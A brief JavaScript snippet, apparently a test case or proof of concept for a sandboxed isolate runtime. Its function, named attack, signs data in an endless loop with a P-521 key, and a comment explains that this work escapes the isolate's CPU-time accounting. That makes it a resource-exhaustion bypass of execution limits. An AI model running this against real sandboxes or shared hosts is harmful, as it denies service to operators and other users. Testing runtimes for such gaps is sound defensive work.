// Lets the child work without end, which costs this isolate's own clock nothing. What is done for it counts as its own.
function attack() {
  const key = crypto.generateKeyPairSync('ec', { namedCurve: 'P-521' }).privateKey
  for (;;) crypto.sign('sha512', 'x', key)
}
